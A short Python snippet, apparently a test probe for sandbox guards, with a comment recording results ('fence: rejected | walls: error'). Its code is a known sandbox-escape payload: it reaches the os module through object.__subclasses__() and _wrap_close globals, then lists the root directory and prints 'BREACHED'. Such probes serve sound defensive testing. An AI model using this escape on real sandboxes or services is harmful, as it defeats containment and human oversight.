# fence: rejected | walls: error
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        os = cls.close.__globals__["sys"].modules["os"]
print("BREACHED" if os.listdir("/") else "empty")
